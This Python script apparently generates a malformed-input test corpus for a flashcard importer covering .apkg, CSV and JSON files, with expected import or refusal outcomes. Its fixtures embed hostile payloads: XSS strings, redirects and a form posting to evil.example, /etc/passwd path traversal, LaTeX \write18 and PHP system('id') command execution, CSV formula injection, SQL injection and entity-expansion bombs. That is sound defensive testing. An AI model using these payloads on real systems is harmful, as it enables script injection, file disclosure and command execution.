# --- media ---------------------------------------------------------------------------------------------------------------------------------
image = b"\x89PNG\r\n\x1a\n" + b"x" * 50
odd = ["CON", "nul.txt", "aux", "COM1.png", "con .png", "a ", "a.", ".hidden", "~", "-rf", "%2e%2e%2fetc", "..%2f..%2fx", "\u202egnp.exe", "\u200b.png",
       "a:b.png", "a\u2044b.png", "a\u2215b", "\uff0e\uff0e\uff0fx", "x" * 256, "x" * 240, "\u00e9" * 127, "caf\u00e9.png", "cafe\u0301.png", "a?b*c|d\"e<f>.png",
       "file://etc", "\\\\server\\share", "a\tb", "a\x7fb", "a\x85b", "", " ", "_latex.png", "collection.anki21", "media"]
for kind in ("old", "new"):
    listed = json.dumps({str(i): n for i, n in enumerate(odd)}).encode()
    imported(f"media-names-odd-{kind}.apkg", old(base, listed, [entry(str(i), image) for i in range(len(odd))]) if kind == "old"
             else new(base18, b"".join(media_entry(n, image) for n in odd), [entry(str(i), zstd(image), method=0) for i in range(len(odd))]))
imported("media-many-listed.apkg", old(base, json.dumps({str(i): f"{i}.png" for i in range(60_000)}).encode()))
imported("media-same-target.apkg", old(base, json.dumps({str(i): "same.png" for i in range(30_000)}).encode(), [entry("0", image)]))
imported("media-number-names.apkg", old(base, json.dumps({"\u0661": "a.png", "1e5": "b.png", "-1": "c.png", "00": "d.png", " 0": "e.png", "": "f.png"}).encode(),
         [entry("0", image)]))
imported("media-size-zero.apkg", new(base18, media_entry("a.png", b"", size=0), [entry("0", zstd(image), method=0)]))
imported("media-hash-lengths.apkg", new(base18, media_entry("a.png", image, sha1=b"") + media_entry("b.png", image, sha1=b"x" * 100_000),
         [entry(str(i), zstd(image), method=0) for i in range(2)]))
imported("media-legacy-name.apkg", new(base18, field(1, field(1, b"a.png") + b"\xf8\x0f\xff\xff\xff\xff\xff\xff\xff\xff\x7f"), [entry("0", zstd(image), method=0)]))
imported("media-svg-script.apkg", old(database(run("UPDATE notes SET flds = ?", '<img src="a.svg">\x1f[sound:a.html]')),
         b'{"0":"a.svg","1":"a.html"}', [entry("0", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), entry("1", b"<script>alert(1)</script>")]))
refused("media-list-keys-twice-deep.apkg", old(base, b'{"0":{"a":{"a":{"a":{"a":1}}}}}'))
refused("media-list-trailing.apkg", old(base, b'{"0":"a.png"'))
refused("media-list-utf16.apkg", old(base, '{"0":"a.png"}'.encode("utf-16")))

# --- what stands in fields -------------------------------------------------------------------------------------------------------------------
texts = {
    "base": '<base href="https://evil.example/"><a href="x">x</a>', "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">x',
    "javascript": '<a href="jAvAsCrIpT:alert(1)">x</a><a href="java\tscript:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a>',
    "svg": '<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>x', "math": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>x',
    "style": '<style>@import "https://evil.example/x.css"; * { background: url(//evil.example) }</style><b style="position:fixed;inset:0">x</b>',
    "comment": "<!--><script>alert(1)</script>--><!-- <!-- --> -->x", "cdata": "<![CDATA[<script>alert(1)</script>]]>x<?php system('id') ?>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">x', "zero-bytes": "<scr\0ipt>alert(1)</scr\0ipt>x",
    "handlers": '<img src="x.png"onerror="alert(1)"><b onmouseover=alert(1)//>x</b><details ontoggle=alert(1) open>', "form": '<form action="https://evil.example"><input name=token><button>x</button></form>',
    "sound-path": "[sound:../../../etc/passwd][sound:/etc/passwd][sound:http://evil.example/x.mp3][sound:a.mp3]x", "sound-many": "[sound:" * 30_000,
    "latex": "[latex]\\input{/etc/passwd}[/latex] [$]\\write18{id}[/$] \\(x\\) [$$]x[/$$]", "cloze-deep": "{{c1::" * 20_000, "cloze-many": "{{c1::a::b}}" * 20_000, "cloze-open": "{{c" * 60_000,
    "angles": "<" * 200_000, "tags-open": "<b " * 60_000, "tags-nested": "<div>" * 40_000 + "x", "references": "&#" * 100_000 + "&#x110000;&#xd800;&bogus;", "attributes": "<img " + "a=b " * 60_000 + ">x",
    "quotes": "<img src='" * 20_000, "comments-open": "<!--" * 50_000, "script-open": "x<script>" * 20_000, "entities": "&amp;" * 60_000, "rubies": "<ruby>a<rt>b</rt></ruby>" * 10_000,
    "long": "a" * 2_000_000, "long-word": "\u0301" * 300_000, "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20_000, "spaces": " " * 300_000 + "x", "lines": "x<br>" * 50_000,
    "formula": "=cmd|' /C calc'!A0", "direction": "\u202e\u2066\u202d" * 1000 + "x", "controls": "".join(map(chr, range(1, 31))) + "\x7f\x80\x9fx", "zalgo": "x" + "\u0335" * 50_000,
}
for label, text in texts.items():
    imported(f"html-{label}.apkg", fields(text, text))
    imported(f"html-{label}.csv", ("#separator:tab\n#html:true\n" + '"' + text.replace('"', '""').replace("\0", "") + '"\tmeaning\n').encode())
imported("html-cloze-deep-as-cloze.apkg", old(database(lambda db: (db.execute("UPDATE col SET models = ?", (json.dumps({"1": {**MODELS["1"], "type": 1}}),)),
         db.execute("UPDATE notes SET flds = ?", ("{{c1::" * 20_000 + "}}" * 20_000 + "\x1f",))))))
imported("html-tags-odd.apkg", old(database(run("UPDATE notes SET tags = ?", " a::b ::: \u3000 <script> '\"; DROP TABLE notes; -- \x01 " + "x" * 5000 + " "))))

# --- tables --------------------------------------------------------------------------------------------------------------------------------------
row = b"chat,cat\nchien,dog\n"
refused("table-zero-bytes.csv", b"chat\0,cat\0\nchien,dog\n" * 3)
refused("table-zeros.csv", bytes(3000))
refused("table-empty.csv", b"")
refused("table-mark-only.csv", b"\xef\xbb\xbf")
refused("table-lines-only.csv", b"\n\r\n\r" * 1000)
imported("table-utf16-le.csv", "word,translation\nchat,cat\n".encode("utf-16"))
imported("table-utf16-be.csv", b"\xfe\xff" + "word,translation\nchat,cat\n".encode("utf-16-be"))
add("table-utf16-odd.csv", "word,translation\nchat,cat\n".encode("utf-16") + b"x")
add("table-utf16-surrogates.csv", b"\xff\xfe" + b"\x00\xd8\x2c\x00\x00\xdc\x0a\x00" * 50)
add("table-utf32.csv", "word,translation\nchat,cat\n".encode("utf-32"))
imported("table-utf7.csv", "word,translation\n+AOk-t+AOk-,summer\n".encode())
imported("table-not-utf8.csv", b"word,translation\n\xff\xfe\xc0\xaf\xed\xa0\x80,cat\n\xe9t\xe9,summer\n")
imported("table-mark-inside.csv", b"word,translation\n\xef\xbb\xbfchat,\xef\xbb\xbfcat\n")
imported("table-cr-only.csv", b"word,translation\rchat,cat\rchien,dog\r")
imported("table-separators-odd.csv", "word\u2028translation,x\u0085y\x0bz\x0cq\n".encode() * 3)
imported("table-quotes-open.csv", b'word,translation\n"chat,cat\nchien,dog\n')
imported("table-quotes-all.csv", b'"' * 300_000)
imported("table-quotes-lines.csv", b'"a\n' * 60_000)
imported("table-quotes-middle.csv", b'a"b"c,"d"e"f\n' * 1000)
imported("table-quotes-pairs.csv", b'"a""b","c"""\n' * 20_000)
imported("table-columns-many.csv", b"a," * 300_000 + b"b\nc,d\n")
imported("table-columns-uneven.csv", b"".join(b"w%d" % i + b",x" * (i % 250) + b"\n" for i in range(1500)))
imported("table-separators-only.csv", b"x" + b",,,,,,,,,,\n" * 20_000)
imported("table-one-line.csv", b"a" * 1_000_000)
imported("table-spaces.csv", b"a, " * 100_000)
imported("table-name-long.csv", b"word,translation," + b"n" * 200_000 + b"\n" + b"a,b,c\n" * 500)
imported("table-names-many.csv", b",".join(b"word" for _ in range(5000)) + b"\n" + b"a,b,c\n")
imported("table-formulas.csv", b"word,translation\n=1+1,@SUM(A1)\n+1,-1\n\"=HYPERLINK(\"\"http://evil.example\"\")\",x\n")
imported("table-script.tsv", b"word\ttranslation\n<script>alert(1)</script>\t<img src=x onerror=alert(1)>\n")
imported("table-tags-many.csv", b"#separator:comma\n#tags:" + b"t " * 100_000 + b"\n" + b"".join(b"w%d,x\n" % i for i in range(2000)))
imported("table-tags-different.csv", b"#separator:comma\n#tags:" + b" ".join(b"t%d" % i for i in range(30_000)) + b"\n" + b"".join(b"w%d,x\n" % i for i in range(2000)))
imported("table-notetype-long.csv", b"#separator:comma\n#notetype:" + b"n" * 300_000 + b"\n" + b"".join(b"w%d,x\n" % i for i in range(2000)))
imported("table-deck-long.csv", b"#separator:comma\n#deck:" + b"d::" * 100_000 + b"\n" + b"".join(b"w%d,x\n" % i for i in range(2000)))
imported("table-columns-directive.csv", b"#separator:comma\n#columns:" + b"c," * 100_000 + b"\nchat,cat\n")
imported("table-directives-odd.csv", b"#separator:\n#separator:\"\n#html:perhaps\n#guid column:-1\n#tags column:99999999999999999999\n#deck column:0\n#notetype column:1\nchat,cat\n")
add("table-directives-only.csv", b"#separator:tab\n#html:true\n" * 500)
imported("table-decks-many.csv", b"word,translation,deck\n" + b"".join(b"w%d,x,d%d\n" % (i, i) for i in range(2900)))
refused("table-decks-too-many.csv", b"word,translation,deck\n" + b"".join(b"w%d,x,d%d\n" % (i, i) for i in range(9000)))
imported("table-decks-deep.csv", b"word,translation,deck\n" + b"".join(b"w%d,x,%s\n" % (i, b"::".join(b"d%d-%d" % (i, j) for j in range(30))) for i in range(200)))
imported("table-binary.txt", bytes(c for c in rng.randbytes(30_000) if c))
imported("table-xml.txt", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>')
refused("kind-unknown.exe", b"MZ" + bytes(100))
refused("kind-none", row)

# --- JSON --------------------------------------------------------------------------------------------------------------------------------------------
refused("json-deep.json", b"[" * 100_000)
refused("json-deep-objects.json", b'{"a":' * 50_000 + b"1" + b"}" * 50_000)
refused("json-empty.json", b"")
refused("json-cut.json", b'[{"word":"chat","translation":"c')
refused("json-trailing.json", b'[{"word":"chat"}] x')
refused("json-lines.json", b'{"word":"chat"}\n{"word":"chien"}\n')
refused("json-number.json", b"1e999999")
refused("json-digits.json", b'[{"word":"a","n":' + b"9" * 200_000 + b"e5}]")
refused("json-surrogate.json", b'[{"word":"\\ud800"}]')
refused("json-not-utf8.json", b'[{"word":"\xff\xfe"}')
refused("json-keys-twice.json", b'[{"word":"a","word":"b"}]')
refused("json-list-of-numbers.json", b"[1,2,3]")
refused("json-other-format.json", b'{"format":"hearth-words/99","decks":[],"words":[]}')
refused("json-format-number.json", b'{"format":1}')
refused("json-infinity.json", b'[{"word":Infinity}]')
imported("json-zero-character.json", b'[{"word":"a\\u0000b","translation":"\\u0001\\u001f"}]')
imported("json-values-odd.json", b'[{"word":"a","translation":5,"tags":[1,null,{}],"deck":{},"synonyms":true}]')
imported("json-members-many.json", json.dumps([{"word": "a", **{f"k{i}": "v" for i in range(20_000)}}]).encode())
imported("json-utf16.json", '[{"word":"chat","translation":"cat"}]'.encode("utf-16"))
card = {"direction": 0, "state": {"card": {"phase": 2, "step": 0, "memory": {"stability": 3.0, "difficulty": 5.0}, "intervalDays": 3}, "due": {"on": {"day": 20000}},
        "repetitions": 1, "lapses": 0}, "isSuspended": False, "flag": 0, "reviews": []}
review = {"id": 1, "card": 1, "date": 1700000000, "day": 19000, "rating": 3, "kind": 1, "elapsedDays": 3, "interval": {"value": 3}, "milliseconds": 5, "key": "k"}


def words(change=None, **parts):
    content = {"word": "chat", "definition": "", "translation": "cat", "phonetic": "", "example": "", "synonyms": [], "tags": [], "extra": []}
    value = {"format": "hearth-words/1", "decks": [{"path": ["A"]}], "words": [{"guid": "g", "deck": 0, "content": content, "cards": [json.loads(json.dumps(card))]}]}
    value.update(parts)
    if change:
        change(value)
    return json.dumps(value).encode()


imported("json-words-sound.json", words())
for label, number in (("max", (1 << 63) - 1), ("min", -(1 << 63)), ("large", 10 ** 18), ("minus", -1)):
    for key in ("repetitions", "lapses", "lastReviewDay", "firstReviewDay"):
        add(f"json-{key}-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"].update({key: number})))
    for key in ("step", "intervalDays"):
        add(f"json-{key}-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"]["card"].update({key: number})))
    for key in ("direction", "flag", "buriedOn", "deck"):
        add(f"json-card-{key}-{label}.json", words(lambda v: v["words"][0]["cards"][0].update({key: number})))
    for key in ("date", "day", "elapsedDays", "milliseconds", "id", "card"):
        add(f"json-review-{key}-{label}.json", words(lambda v: v["words"][0]["cards"][0].update({"reviews": [{**review, key: number}]})))
    add(f"json-due-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"].update({"due": {"on": {"day": number}}})))
    add(f"json-due-moment-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"].update({"due": {"at": {"_0": number}}})))
    add(f"json-review-interval-{label}.json", words(lambda v: v["words"][0]["cards"][0].update({"reviews": [{**review, "interval": {"value": number}}]})))
    refused(f"json-deck-place-{label}.json", words(lambda v: v["words"][0].update({"deck": number})))
    add(f"json-created-{label}.json", words(lambda v: v["words"][0].update({"createdAt": number, "modifiedAt": number})))
for label, number in (("minus", -1), ("min", -(1 << 40)), ("max", 1 << 40)):
    def counts(value):
        value["words"][0]["content"].update({"example": "Un chat.", "sentences": ["Le chat dort.", "Chat !"]})
        value["words"][0]["cards"][0]["state"].update({"repetitions": number, "lapses": number, "lastReviewDate": 5_680_000_000})
        value["words"][0]["cards"][0]["reviews"] = [review]
    imported(f"json-counts-and-sentences-{label}.json", words(counts))
for label, number in (("1e300", 1e300), ("minus-1e300", -1e300), ("1e19", 1e19)):
    add(f"json-review-date-{label}.json", words(lambda v: v["words"][0]["cards"][0].update({"reviews": [{**review, "date": number}]})))
    add(f"json-last-review-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"].update({"lastReviewDate": number})))
    add(f"json-created-{label}.json", words(lambda v: v["words"][0].update({"createdAt": number, "modifiedAt": number})))
    add(f"json-stability-{label}.json", words(lambda v: v["words"][0]["cards"][0]["state"]["card"].update({"memory": {"stability": number, "difficulty": 5}})))
imported("json-review-keys-twice.json", words(lambda v: v["words"][0]["cards"][0].update({"reviews": [review] * 50})))
imported("json-no-decks-no-words.json", words(decks=[], words=[]))
add("json-deck-path-empty.json", words(decks=[{"path": []}]))
add("json-deck-path-deep.json", words(decks=[{"path": ["a"] * 50_000}]))
add("json-deck-names-odd.json", words(decks=[{"path": ["::", "", "\0", "a::b"]}]))
refused("json-decks-many.json", words(decks=[{"path": [f"d{i}"]} for i in range(15_000)]))
add("json-kind-long.json", words(lambda v: v["words"][0]["content"].update({"kind": "k" * 300_000, "image": "../../x", "audio": "/etc/passwd"})))
add("json-tags-many.json", words(lambda v: v["words"][0]["content"].update({"tags": [f"t {i}" for i in range(20_000)], "synonyms": ["s"] * 20_000})))
add("json-phase-unknown.json", words(lambda v: v["words"][0]["cards"][0]["state"]["card"].update({"phase": 77})))
add("json-word-empty.json", words(lambda v: v["words"][0]["content"].update({"word": " "})))
add("json-guid-long.json", words(lambda v: v["words"][0].update({"guid": "g" * 300_000})))
add("json-cards-many.json", words(lambda v: v["words"][0].update({"cards": [card] * 2_000})))
add("json-settings-odd.json", words(decks=[{"path": ["A"], "settings": {"desiredRetention": 9}}]))

# --- large ones, which are not kept in the repository ----------------------------------------------------------------------------------------------------
if large:
    def gigabyte(piece, count):
        for _ in range(count):
            yield piece
    refused("large-one-line.csv", gigabyte(b"a" * (1 << 20), 1024))
    add("large-one-line-100.csv", b"a" * (100 << 20))
    add("large-two-fields-100.csv", b"a" * (50 << 20) + b"," + b"b" * (50 << 20))
    add("large-columns.csv", b"a," * 10_000_000 + b"\n")
    add("large-rows.csv", b"".join(b"w%d,x\n" % i for i in range(3_000_000)))
    add("large-rows-wide.csv", b"".join(b"w%d" % i + b",x" * 190 + b"\n" for i in range(250_000)))
    add("large-rows-empty-fields.csv", (b"," * 190 + b"\n") * 600_000)
    add("large-quotes.csv", b'"' * (100 << 20))
    add("large-quotes-lines.csv", b'"a\n' * 30_000_000)
    add("large-lines.csv", b"\n" * (120 << 20))
    add("large-utf16.csv", ("wort,x\n" * 7_000_000).encode("utf-16"))
    add("large-windows-1252.csv", b"word,\xe9t\xe9\n" * 8_000_000)
    add("large-same.csv", b"chat,cat\n" * 12_000_000)
    add("large-decks.csv", b"word,translation,deck\n" + b"".join(b"w%d,x,d%d\n" % (i, i) for i in range(1_000_000)))
    add("large-html.csv", b"#separator:tab\n#html:true\n" + b"".join(b"w%d\t" % i + b"<b>&amp;[sound:" * 10 + b"\n" for i in range(600_000)))
    add("large-headers.csv", b"word," + b",".join(b"h" * 200 + b"%d" % i for i in range(190)) + b"\n" + b"".join(b"w%d" % i + b",x" * 190 + b"\n" for i in range(100_000)))
    add("large-list.json", b"[" + b'{"word":"a"},' * 3_400_000 + b'{"word":"b"}]')
    add("large-list-empty.json", b"[" + b"{}," * 15_000_000 + b"{}]")
    add("large-lists.json", b"[" + b"[]," * 15_000_000 + b"[]]")
    add("large-numbers.json", b"[" + b"0," * 23_000_000 + b"0]")
    add("large-string.json", b'[{"word":"' + b"a" * (47 << 20) + b'"}]')
    add("large-members.json", b"[{" + b",".join(b'"k%d":""' % i for i in range(3_000_000)) + b"}]")
    content = {"word": "chat", "definition": "", "translation": "cat", "phonetic": "", "example": "", "synonyms": [], "tags": [], "extra": []}
    one = json.dumps({"deck": 0, "content": content}, separators=(",", ":")).encode()
    add("large-words.json", b'{"format":"hearth-words/1","decks":[{"path":["A"]}],"words":[' + b",".join([one] * 350_000) + b"]}")
    reviews = json.dumps(review, separators=(",", ":")).encode()
    add("large-reviews.json", words(lambda v: v["words"][0]["cards"][0].update({"reviews": ["@"]})).replace(b'"@"', b",".join([reviews] * 280_000)))
    add("large-escapes.json", b'[{"word":"' + b"\\u0061" * 8_000_000 + b'"}]')

    def insert(sql, rows):
        return lambda db: db.executemany(sql, rows)
    note = "INSERT INTO notes VALUES (?, ?, 1, 0, 0, ?, ?, 0, 0, 0, '')"
    add("large-notes-one-letter.apkg", old(database(insert(note, ((i, f"g{i}", "", "a\x1fb") for i in range(10, 1_000_000))))))

    def both(notes, cards, logs=0):
        def change(db):
            db.executemany(note, ((i, f"{i * 2654435761 % (1 << 32):x}", f"t{i}", f"w{i}\x1fb") for i in range(10, notes)))
            db.executemany("INSERT INTO cards VALUES (?, ?, 5, ?, 0, 0, 2, 2, 100, 30, 2500, 5, 0, 0, 0, 0, 0, '{\"s\":30.5,\"d\":5.1}')",
                           ((i * 1000 + k, i, k) for i in range(10, notes) for k in range(cards)))
            db.executemany("INSERT INTO revlog VALUES (?, ?, 0, 3, 1, 1, 0, 0, 1)", ((1_000_000_000_000 + i * 60_000, 10_000 + i % notes // cards * 1000) for i in range(logs)))
        return old(database(change))
    add("large-notes-and-cards.apkg", both(500_000, 1))
    add("large-cards-500-each.apkg", both(3_000, 400))
    add("large-reviews-one-card.apkg", old(database(insert("INSERT INTO revlog VALUES (?, 11, 0, 3, 1, 1, 0, 0, 1)", ((i * 1000,) for i in range(1, 2_800_000))))))
    add("large-reviews-learning.apkg", old(database(lambda db: (db.execute("UPDATE cards SET data = ''"), db.executemany("INSERT INTO revlog VALUES (?, 11, 0, 3, 1, 1, 0, 0, 0)",
        ((i * 3_600_000,) for i in range(1, 2_800_000)))))))
    add("large-reviews-ten-million.apkg", old(database(insert("INSERT INTO revlog VALUES (?, 11, 0, 3, 1, 1, 0, 0, 1)", ((i,) for i in range(1, 10_000_000))))))
    add("large-reviews-orphans.apkg", old(database(insert("INSERT INTO revlog VALUES (?, 99, 0, 3, 1, 1, 0, 0, 1)", ((i,) for i in range(1, 8_000_000))))))
    add("large-cards-orphans.apkg", old(database(insert("INSERT INTO cards VALUES (?, 77, 5, 0, 0, 0, 2, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, '')", ((i,) for i in range(100, 4_000_000))))))
    add("large-rows-bad.apkg", old(database(insert("INSERT INTO notes VALUES (?, x'00', 1, 0, 0, '', '', 0, 0, 0, '')", ((i,) for i in range(10, 8_000_000))))))
    noise = random.Random(9)

    def fields_of(text, count):
        return old(database(insert(note, ((i, f"g{i}", "", text(i) + "\x1fb") for i in range(10, 10 + count)))))
    letters = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ+/"
    block = bytes(letters.encode()[b & 63] for b in noise.randbytes(1 << 20)).decode()
    add("large-fields-60-mb.apkg", fields_of(lambda i: block * 58, 6))
    add("large-fields-1-mb.apkg", fields_of(lambda i: block[i:] + block[:i], 300))
    for label, text in (("sounds", "[sound:"), ("gaps", "{{c"), ("gaps-closed", "{{c1::a}}"), ("references", "&#x1;"), ("angles", "<b<"), ("comments", "<!---->"), ("rubies", "<rt>a</rt>"), ("letters", "\u00e9\u0301"),
                        ("images", '<img src="a%20b.png">'), ("brackets", "["), ("spaces", "  ")):
        add(f"large-html-{label}.apkg", fields_of(lambda i: (text * (1_000_000 // len(text.encode())))[:1_000_000], 250))
        add(f"large-cloze-{label}.apkg", old(database(lambda db: (db.execute("UPDATE col SET models = ?", (json.dumps({"1": {**MODELS["1"], "type": 1}}),)),
            db.executemany(note, ((i, f"g{i}", "", text * (1_000_000 // len(text.encode())) + "\x1fb") for i in range(10, 210)))))))
    add("large-fields-many.apkg", old(database(lambda db: (db.execute("UPDATE col SET models = ?", (json.dumps({"1": {**MODELS["1"], "flds": [{"name": f"f{i}"} for i in range(490)]}}),)),
        db.executemany(note, ((i, f"g{i}", "", "\x1f".join(["x"] * 490)) for i in range(10, 18_000)))))))
    add("large-decks-deep.apkg", old(database(run("UPDATE col SET decks = ?", json.dumps({str(i): {"name": "::".join(f"{i}-{j}" for j in range(20))} for i in range(1, 2_990)})))))
    add("large-options.apkg", old(database(run("UPDATE col SET dconf = ?", "{" + ",".join(f'"{i}":{{}}' for i in range(1, 1_300_000)) + "}"))))
    add("large-media-list.apkg", old(base, b"{" + b",".join(b'"%d":"%d.png"' % (i, i) for i in range(1_000_000)) + b"}"))
    add("large-media-list-240000.apkg", old(base, b"{" + b",".join(b'"%d":"%d.png"' % (i, i) for i in range(240_000)) + b"}"))
    add("large-media-small-files.apkg", old(base, json.dumps({str(i): f"{i}.png" for i in range(60_000)}).encode(), [entry(str(i), b"%d" % i, method=0) for i in range(60_000)]))
    add("large-media-files.apkg", old(base, json.dumps({str(i): f"{i}.png" for i in range(14)}).encode(), [entry(str(i), noise.randbytes(60 << 20), method=0) for i in range(14)]))
    add("large-media-protobuf.apkg", new(base18, b"\x0a\x00" * 30_000_000))
    add("large-schema.apkg", old(database(lambda db: [db.execute("PRAGMA writable_schema = ON")] + [db.execute("INSERT INTO sqlite_schema VALUES ('view', ?, ?, 0, ?)",
        (f"v{i}", f"v{i}", f"CREATE VIEW v{i} AS SELECT " + ",".join(f"a{j}" for j in range(100)))) for i in range(100_000)])))
    add("large-zstd-empty-blocks.apkg", new(base18, packed=frame + b"\x00\x50" + raw(b"", False) * 30_000_000 + raw(b"", True)))
    add("large-zstd-skippable.apkg", new(base18, packed=b"\x50\x2a\x4d\x18\0\0\0\0" * 10_000_000 + packed))
    add("large-deflate-empty-blocks.apkg", pack([entry("collection.anki21", base, body=b"\x00\x00\x00\xff\xff" * 20_000_000 + collection["body"]), media]))
    add("large-entries.apkg", pack([collection, media, *[entry(b"%d" % i, b"", method=0) for i in range(65_000)]]))

with open(os.path.join(out, "expected.json"), "w") as file:
    json.dump(expected, file, indent=0, sort_keys=True)
print(len(expected), "files")
